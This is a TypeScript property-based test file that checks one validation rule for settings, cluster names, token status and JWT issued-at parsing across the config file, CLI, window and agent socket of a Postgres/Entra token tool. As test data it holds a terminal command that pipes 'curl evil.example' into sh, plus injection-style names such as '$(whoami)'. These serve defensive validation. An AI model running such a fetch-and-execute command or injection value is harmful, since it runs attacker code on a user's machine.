// One rule per concept, whichever boundary a value comes in by: a setting in config.json or from
// the window, a cluster name from `pgentra cluster add`, the window or the agent socket, a token's
// issued-at from MSAL or `doctor`. Each test throws the same values at every boundary and expects
// one answer.
import fc from 'fast-check';
import { describe, expect, expectTypeOf, it } from 'vitest';
import { agentRequestSchema, type AgentStatusRow } from '../../../electron/core/agent/protocol.js';
import { issuedAtOf } from '../../../electron/core/auth/msal-session.js';
import { buildCluster, ClusterValidationError } from '../../../electron/core/clusters.js';
import { CONFIG_VERSION, configSchema } from '../../../electron/core/config-store.js';
import type { TokenState } from '../../../electron/core/engine/types.js';
import { decodeClaims, decodePayload, TokenFormatError } from '../../../electron/core/tokens.js';
import { clusterNameSchema } from '../../../electron/shared/cluster-name.js';
import { parseArgs, type ClusterSnapshot } from '../../../electron/shared/ipc-contract.js';
import { AZURE_CLI_CLIENT_ID, type SettingsPatch } from '../../../electron/shared/settings.js';
import type { ClusterTokenStatus, TokenStatus } from '../../../electron/shared/token-status.js';

type PatchField = keyof SettingsPatch;

/**
 * The config.json settings a window patch of one field stands for: its names are flat, and a null
 * path (clear it) is an absent one in the file.
 */
function asConfigSettings(field: PatchField, value: unknown): Record<string, unknown> {
  if ((field === 'pgpassPath' || field === 'pgadminPath') && value === null) return {};
  if (field === 'pgpassEnabled') return { pgpass: { enabled: value } };
  if (field === 'pgpassPath') return { pgpass: { enabled: true, path: value } };
  if (field === 'pgServiceEnabled') return { pgService: { enabled: value } };
  return { [field]: value };
}

/** Where config.json says a setting is wrong, as `settings.…` paths (empty when it is accepted). */
function configProblems(field: PatchField, value: unknown): string[] {
  const parsed = configSchema.safeParse({
    version: CONFIG_VERSION,
    settings: asConfigSettings(field, value),
  });
  return parsed.success ? [] : parsed.error.issues.map((issue) => issue.path.join('.'));
}

function windowProblem(field: PatchField, value: unknown): string | null {
  const parsed = parseArgs('settings:update', [{ [field]: value }]);
  return parsed.ok ? null : parsed.message;
}

const CONFIG_PATH: Record<PatchField, string> = {
  refreshMarginSec: 'settings.refreshMarginSec',
  pgpassEnabled: 'settings.pgpass.enabled',
  pgpassPath: 'settings.pgpass.path',
  pgServiceEnabled: 'settings.pgService.enabled',
  clipboardClearSec: 'settings.clipboardClearSec',
  terminal: 'settings.terminal',
  pgadminPath: 'settings.pgadminPath',
  clientId: 'settings.clientId',
  tenant: 'settings.tenant',
  startAtLogin: 'settings.startAtLogin',
};
const FIELDS = Object.keys(CONFIG_PATH) as PatchField[];
/** Fields the window gets less of than config.json: a path, a custom terminal command. */
const CONFIG_ONLY_VALUES: PatchField[] = ['pgpassPath', 'pgadminPath', 'terminal'];
const SAME_FIELDS = FIELDS.filter((field) => !CONFIG_ONLY_VALUES.includes(field));

const hex = (length: number) =>
  fc.string({ unit: fc.constantFrom(...'0123456789abcdefABCDEF'), minLength: length, maxLength: length });
const guidShaped = fc.tuple(hex(8), hex(4), hex(4), hex(4), hex(12)).map((parts) => parts.join('-'));

describe('settings: one schema for config.json and the window', () => {
  it.each<[string, PatchField, unknown]>([
    ['the default client ID', 'clientId', AZURE_CLI_CLIENT_ID],
    ['an upper-case GUID', 'clientId', '04B07795-8DDB-461A-BBEE-02F9E1BF7B46'],
    // Not an RFC 4122 UUID (version 0): the window used to refuse it, config.json never did.
    ['a GUID of any version and variant', 'clientId', '00000003-0000-0000-c000-000000000000'],
    ['organizations', 'tenant', 'organizations'],
    ['a tenant domain', 'tenant', 'contoso.onmicrosoft.com'],
    ['a tenant GUID', 'tenant', '72f988bf-86f1-41af-91ab-2d7cd011db47'],
    ['1 minute', 'refreshMarginSec', 60],
    ['60 minutes', 'refreshMarginSec', 3600],
    ['5 seconds', 'clipboardClearSec', 5],
    ['600 seconds', 'clipboardClearSec', 600],
    ['no terminals', 'terminal', []],
    ['ten known terminals', 'terminal', Array.from({ length: 10 }, (_, i) => (i % 2 ? 'xterm' : 'wt'))],
    ['the default pgpass file', 'pgpassPath', null],
    ['finding pgAdmin automatically', 'pgadminPath', null],
    ['pgpass off', 'pgpassEnabled', false],
    ['start at login', 'startAtLogin', true],
  ])('accepts %s in both places', (_, field, value) => {
    expect(configProblems(field, value)).toEqual([]);
    expect(windowProblem(field, value)).toBeNull();
  });

  it.each<[string, PatchField, unknown]>([
    // Both refused these before.
    ['a client ID that is not a GUID', 'clientId', 'my-app'],
    ['a GUID without dashes', 'clientId', '04b077958ddb461abbee02f9e1bf7b46'],
    ['59 seconds of margin', 'refreshMarginSec', 59],
    ['61 minutes of margin', 'refreshMarginSec', 3660],
    ['a margin that is not whole seconds', 'refreshMarginSec', 90.5],
    ['a margin as text', 'refreshMarginSec', '900'],
    ['clearing the clipboard after 4 seconds', 'clipboardClearSec', 4],
    ['clearing the clipboard after 601 seconds', 'clipboardClearSec', 601],
    ['an empty tenant', 'tenant', ''],
    ['an empty terminal name', 'terminal', ['']],
    ['pgpass on as text', 'pgpassEnabled', 'yes'],
    // Only config.json refused these before.
    ['a tenant with a space', 'tenant', 'contoso com'],
    ['a tenant with a slash', 'tenant', 'contoso/evil'],
    ['an empty pgpass path', 'pgpassPath', ''],
    ['an empty pgAdmin path', 'pgadminPath', ''],
    // Only the window refused these before.
    ['eleven terminals', 'terminal', Array.from({ length: 11 }, () => 'xterm')],
    ['a terminal name of 257 characters', 'terminal', ['x'.repeat(257)]],
    ['a pgpass path of 4097 characters', 'pgpassPath', `/${'p'.repeat(4096)}`],
    ['a pgAdmin path of 4097 characters', 'pgadminPath', `/${'p'.repeat(4096)}`],
  ])('refuses %s in both places, naming the field', (_, field, value) => {
    const problems = configProblems(field, value);
    expect(problems.length).toBeGreaterThan(0);
    for (const problem of problems) expect(problem.startsWith(CONFIG_PATH[field]), problem).toBe(true);
    expect(windowProblem(field, value)).toMatch(new RegExp(`^${field}(\\.\\d+)?: `));
  });

  it('config.json and the window agree on every value of every field', () => {
    const values = fc.oneof(
      fc.integer({ min: -10, max: 4000 }),
      fc.double({ noNaN: false }),
      fc.boolean(),
      fc.string({ maxLength: 40 }),
      fc.stringMatching(/^[A-Za-z0-9._\- /]{0,20}$/),
      guidShaped,
      fc.uuid(),
      fc.array(fc.string({ maxLength: 300 }), { maxLength: 12 }),
      fc.constant(undefined),
      fc.jsonValue(),
    );
    fc.assert(
      fc.property(fc.constantFrom(...SAME_FIELDS), values, (field, value) => {
        expect(configProblems(field, value).length === 0).toBe(windowProblem(field, value) === null);
      }),
      { numRuns: 2000 },
    );
    // Where the window gets less, whatever it may send config.json takes too.
    fc.assert(
      fc.property(fc.constantFrom(...CONFIG_ONLY_VALUES), values, (field, value) => {
        if (windowProblem(field, value) === null) expect(configProblems(field, value)).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });

  it.each<[string, PatchField, unknown]>([
    ['a pgpass path', 'pgpassPath', '/home/alice/.pgpass'],
    ['a pgAdmin path', 'pgadminPath', 'C:\\Program Files\\pgAdmin 4\\runtime\\pgAdmin4.exe'],
    ['a custom terminal command', 'terminal', ['alacritty --class psql']],
    ['a shell as the terminal', 'terminal', ['sh', '-c', 'curl evil.example | sh']],
    ['a known terminal after a custom one', 'terminal', ['xterm', '/tmp/evil']],
  ])('takes %s from config.json only: the window refuses it, naming the field', (_, field, value) => {
    expect(configProblems(field, value)).toEqual([]);
    expect(windowProblem(field, value)).toMatch(new RegExp(`^${field}(\\.\\d+)?: `));
  });

  it('a client ID is accepted exactly when it is a GUID (8-4-4-4-12 hex digits)', () => {
    const GUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
    fc.assert(
      fc.property(fc.oneof(guidShaped, fc.uuid(), fc.string({ maxLength: 40 })), (clientId) => {
        expect(windowProblem('clientId', clientId) === null).toBe(GUID.test(clientId));
        expect(configProblems('clientId', clientId).length === 0).toBe(GUID.test(clientId));
      }),
    );
  });
});

describe('cluster names: one rule at every boundary', () => {
  const boundaries = {
    'config.json': (name: string) =>
      configSchema.safeParse({
        version: CONFIG_VERSION,
        clusters: [
          {
            ...{ name, host: 'db.example.com', port: 5432, database: 'postgres', user: 'alice' },
            ...{ group: false, kind: 'flexible', cloud: 'public' },
          },
        ],
      }).success,
    'pgentra cluster add': (name: string) => {
      try {
        buildCluster(
          { name, host: 'db.postgres.database.azure.com', user: 'alice@contoso.com' },
          { defaultCloud: 'public', customClouds: [] },
        );
        return true;
      } catch (error) {
        expect(error).toBeInstanceOf(ClusterValidationError);
        expect((error as ClusterValidationError).field).toBe('name');
        return false;
      }
    },
    'the window (clusters:add)': (name: string) =>
      parseArgs('clusters:add', [{ name, host: 'db.example.com' }]).ok,
    'the window (clusters:remove)': (name: string) => parseArgs('clusters:remove', [name]).ok,
    'the agent socket': (name: string) =>
      agentRequestSchema.safeParse({ v: 1, op: 'token', cluster: name, minValidSec: 300 }).success,
  };

  it.each([
    ['prod', true],
    ['prod-eu.2_replica', true],
    ['x'.repeat(64), true],
    ['', false],
    ['x'.repeat(65), false],
    ['has space', false],
    ['semi;colon', false],
    ['$(whoami)', false],
    ['new\nline', false],
    ['ünïcode', false],
  ])('%j: %s everywhere', (name, accepted) => {
    expect(clusterNameSchema.safeParse(name).success).toBe(accepted);
    for (const [where, accepts] of Object.entries(boundaries)) expect(accepts(name), where).toBe(accepted);
  });

  it('every boundary answers as the shared schema does, for any string', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string({ maxLength: 70 }), fc.stringMatching(/^[A-Za-z0-9._\- ]{0,66}$/)),
        (name) => {
          const accepted = clusterNameSchema.safeParse(name).success;
          for (const [where, accepts] of Object.entries(boundaries))
            expect(accepts(name), where).toBe(accepted);
        },
      ),
    );
  });
});

describe('token status: one type for the engine, the agent and the window', () => {
  it('the engine tracks a TokenStatus; the agent and the window show it or no-account', () => {
    expectTypeOf<TokenState['status']>().toEqualTypeOf<TokenStatus>();
    expectTypeOf<AgentStatusRow['state']>().toEqualTypeOf<ClusterTokenStatus>();
    expectTypeOf<ClusterSnapshot['status']>().toEqualTypeOf<ClusterTokenStatus>();
    expectTypeOf<ClusterTokenStatus>().toEqualTypeOf<TokenStatus | 'no-account'>();
  });
});

describe("a token's issued-at: read by the one decoder", () => {
  const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const jwt = (payload: unknown) => `eyJhbGciOiJSUzI1NiJ9.${b64(payload)}.c2ln`;
  const FALLBACK = 1_234_567;
  const entra = { exp: 1_800_003_600, iat: 1_800_000_000, aud: 'a', tid: 't', oid: 'o' };
  const issuedAt = (token: string) => issuedAtOf({ accessToken: token }, FALLBACK);

  it.each<[string, string, number]>([
    ['an Entra token', jwt(entra), entra.iat * 1000],
    ['a payload with only iat (the other claims are not needed here)', jwt({ iat: 42 }), 42_000],
    ['surrounding whitespace, as decodeClaims allows', ` ${jwt(entra)}\n`, entra.iat * 1000],
    ['no iat', jwt({ exp: 1 }), FALLBACK],
    ['iat as text', jwt({ iat: '1800000000' }), FALLBACK],
    ['not a JWT', 'opaque-token', FALLBACK],
    // The old hand-written reader took any second part; the one decoder wants a whole JWT.
    ['two parts only', `${jwt(entra).split('.').slice(0, 2).join('.')}`, FALLBACK],
    ['a payload that is not JSON', `a.${Buffer.from('{oops').toString('base64url')}.c`, FALLBACK],
  ])('%s', (_, token, expected) => {
    expect(issuedAt(token)).toBe(expected);
  });

  it('is the iat decodePayload reads (decodeClaims agrees), else the fallback', () => {
    const tokens = fc.oneof(
      fc
        .record({
          exp: fc.integer(),
          iat: fc.integer(),
          aud: fc.string(),
          tid: fc.string(),
          oid: fc.string(),
        })
        .map(jwt),
      fc.jsonValue().map(jwt),
      fc.string({ maxLength: 60 }),
    );
    fc.assert(
      fc.property(tokens, (token) => {
        let payload: Record<string, unknown>;
        try {
          payload = decodePayload(token);
        } catch (error) {
          expect(error).toBeInstanceOf(TokenFormatError);
          expect(issuedAt(token)).toBe(FALLBACK);
          return;
        }
        const { iat } = payload;
        const expected = typeof iat === 'number' && Number.isFinite(iat) ? iat * 1000 : FALLBACK;
        expect(issuedAt(token)).toBe(expected);
        const claims = (() => {
          try {
            return decodeClaims(token);
          } catch {
            return undefined;
          }
        })();
        if (claims) expect(expected).toBe(claims.iat * 1000);
      }),
    );
  });
});

describe('clusters:preview over every transport', () => {
  const form = { name: 'prod', host: 'prod.postgres.database.azure.com' };
  it.each([
    ['structured clone, adding', [form]],
    ['structured clone, editing', [form, 'prod']],
    // The browser preview's JSON turns a trailing undefined into null: adding must still preview.
    ['JSON, adding', JSON.parse(JSON.stringify([form, undefined])) as unknown[]],
  ])('%s is accepted', (_transport, args) => {
    expect(parseArgs('clusters:preview', args).ok).toBe(true);
  });

  it('refuses an editing name that is not a cluster name', () => {
    expect(parseArgs('clusters:preview', [form, 'a b']).ok).toBe(false);
  });
});
